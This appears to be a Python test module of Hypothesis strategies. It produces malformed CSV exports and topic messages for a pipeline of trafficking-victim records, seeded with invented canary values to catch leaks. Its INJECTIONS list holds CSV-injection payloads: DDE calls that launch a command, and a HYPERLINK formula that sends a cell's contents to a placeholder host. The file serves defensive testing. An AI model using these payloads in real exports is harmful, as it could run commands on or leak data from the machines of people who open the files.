"""Hypothesis strategies for malformed input: national exports and topic messages.

Every generated input carries planted canary values (names, a document number, a phone
number, in Latin and Cyrillic script). Whatever the producer or the pipeline says about
the input, it must not say any of them.
"""

from __future__ import annotations

import hashlib
import io
import json
from datetime import UTC, date, datetime
from itertools import count
from typing import Any

from hypothesis import strategies as st

from producers.national_export import VICTIM_COLUMNS
from producers.synthetic import VictimProfile, victim_rows

CANARIES = ("Wyxmalformia", "Quorbaćanin", "Жмыхова", "MK77CANARY913", "+389 70 999 4242")
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1,"Wyxmalformia")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=Wyxmalformia",
)
_serial = count()


def canary_row(country: str, record_id: str) -> dict[str, str]:
    """A valid victims.csv row whose identifying columns all hold canaries."""
    (row,) = victim_rows(country, [VictimProfile(record_id, date(2022, 6, 7), "F", 24, country, ["labour"])], 5)
    row.update(
        given_name=CANARIES[0],
        family_name=f"{CANARIES[1]} {CANARIES[2]}",
        document_number=CANARIES[3],
        phone=CANARIES[4],
        address=f"ul. {CANARIES[1]} 12",
        notes=f"{CANARIES[0]} told us; call {CANARIES[4]}",
    )
    return row


def good_record_id(prefix: str) -> str:
    return f"{prefix}-GOOD-{next(_serial):06d}"


def _csv(header: list[str], rows: list[list[str]]) -> str:
    import csv

    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


_column_names = st.one_of(
    st.sampled_from(CANARIES),
    st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1, max_size=30),
    st.from_regex(r"[a-z][a-z_]{0,20}", fullmatch=True),
)
_junk_values = st.one_of(
    st.sampled_from(CANARIES),
    st.sampled_from(INJECTIONS),
    st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=60),
)

_odd_values = st.one_of(
    st.builds(
        lambda d, offset: d.isoformat() + offset,
        st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31, 23, 59)),
        st.sampled_from(["", "Z", "+05:00", "-12:00", "+14:00", "+23:59"]),
    ),
    st.dates(min_value=date(1, 1, 1)).map(date.isoformat),
    st.from_regex(r"-?\d{1,6}(-\d{1,3}(-\d{1,3})?)?", fullmatch=True),
    st.sampled_from(["F", "f", " M ", "x", "ZZ", "rs", "R5", "identified;withdrawn", ";;", "labour;;labour", "NaN"]),
    _junk_values,
)


@st.composite
def national_exports(draw: st.DrawFn, country: str) -> tuple[str, bytes, str]:
    """(kind of damage, file bytes, record id of the one good row in it)."""
    good_id = good_record_id(country)
    good = canary_row(country, good_id)
    bad = canary_row(country, f"{country}-BAD-{next(_serial):06d}")
    kind = draw(st.sampled_from(["bytes", "encoding", "columns", "row_shape", "huge", "injection", "values"]))
    header = list(VICTIM_COLUMNS)
    if kind == "bytes":
        prefix = draw(st.sampled_from([b"", b"record_id,updated_at,identified_on\n", b"\xef\xbb\xbf"]))
        return kind, prefix + draw(st.binary(max_size=600)), good_id
    if kind == "encoding":
        text = _csv(header, [list(good.values()), list(bad.values())])
        encoding = draw(st.sampled_from(["cp1251", "cp1250", "iso-8859-2", "utf-16", "utf-32", "koi8-r"]))
        return kind, text.encode(encoding, errors="replace"), good_id
    if kind == "columns":
        kept = draw(st.lists(st.sampled_from(VICTIM_COLUMNS), min_size=1, unique=True))
        extra = draw(st.lists(_column_names, max_size=3))
        header = [*kept, *extra]
        rows = [[good.get(c, draw(_junk_values)) for c in header], [bad.get(c, "") for c in header]]
        return kind, _csv(header, rows).encode(), good_id
    if kind == "row_shape":
        values = list(bad.values())
        cut = draw(st.integers(0, len(values) + 3))
        shaped = values[:cut] if cut <= len(values) else values + [CANARIES[0]] * (cut - len(values))
        return kind, _csv(header, [list(good.values()), shaped]).encode(), good_id
    if kind == "huge":
        column = draw(st.sampled_from(VICTIM_COLUMNS))
        size = draw(st.sampled_from([10_001, 50_000, 140_000]))
        bad[column] = (CANARIES[0] * (size // len(CANARIES[0]) + 1))[:size]
        return kind, _csv(header, [list(good.values()), list(bad.values())]).encode(), good_id
    if kind == "values":  # odd values of the right shape: edge dates, offsets, numbers, codes
        for column in draw(st.lists(st.sampled_from(VICTIM_COLUMNS), min_size=1, max_size=4, unique=True)):
            bad[column] = draw(_odd_values)
        return kind, _csv(header, [list(good.values()), list(bad.values())]).encode(), good_id
    # CSV injection in any column, the identifying ones included
    columns = draw(st.lists(st.sampled_from(VICTIM_COLUMNS), min_size=1, max_size=4, unique=True))
    for column in columns:
        bad[column] = draw(st.sampled_from(INJECTIONS))
    return kind, _csv(header, [list(good.values()), list(bad.values())]).encode(), good_id


def valid_event(country: str) -> dict[str, Any]:
    """A schema-valid event with a fresh pseudonym (its own record, its own event id)."""
    ref = hashlib.sha256(f"malformed-{country}-{next(_serial)}".encode()).hexdigest()
    return {
        "schema_version": 1,
        "kind": "victim",
        "event_id": ref[:32],
        "country": country,
        "batch_id": "e" * 32,
        "produced_at": datetime(2025, 1, 2, tzinfo=UTC).isoformat(),
        "codelist_version": 1,
        "record_ref": ref,
        "case_ref": None,
        "updated_at": datetime(2025, 1, 1, tzinfo=UTC).isoformat(),
        "status": "identified",
        "sex": "F",
        "citizenship": country,
        "age_at_identification": 30,
        "identified_year": 2022,
        "identified_month": 6,
        "identified_by": "police",
        "exploitation_types": ["labour"],
    }


_json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | _junk_values,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)


@st.composite
def topic_messages(draw: st.DrawFn, country: str) -> tuple[str, bytes]:
    """(kind of damage, message value) for a message written straight to a topic."""
    kind = draw(st.sampled_from(["not_json", "not_object", "schema_version", "field", "extra", "oversized"]))
    event = valid_event(country)
    if kind == "not_json":
        junk = draw(st.one_of(st.binary(max_size=300), st.sampled_from(CANARIES).map(str.encode)))
        return kind, b"\xff" + junk  # \xff never starts UTF-8 text: never JSON
    if kind == "not_object":
        value = draw(_json_values.filter(lambda v: not isinstance(v, dict)))
        return kind, json.dumps(value).encode()
    if kind == "schema_version":
        event["schema_version"] = draw(st.one_of(st.integers().filter(lambda v: v != 1), _junk_values, st.none()))
        return kind, json.dumps(event).encode()
    if kind == "field":
        field = draw(st.sampled_from(sorted(event)))
        event[field] = draw(_json_values)
        return kind, json.dumps(event).encode()
    if kind == "extra":
        event[draw(st.sampled_from(["given_name", "family_name", "document_number", "phone", "notes"]))] = CANARIES[0]
        return kind, json.dumps(event).encode()
    event["notes"] = CANARIES[1] * draw(st.integers(6_000, 40_000))  # 66 KiB to 440 KiB
    return kind, json.dumps(event).encode()


def leaked(text: str | bytes) -> list[str]:
    """The canaries found in a message, log or file."""
    data = text.encode("utf-8", errors="replace") if isinstance(text, str) else text
    return [c for c in CANARIES if c.encode() in data or c.encode("utf-16-le") in data]
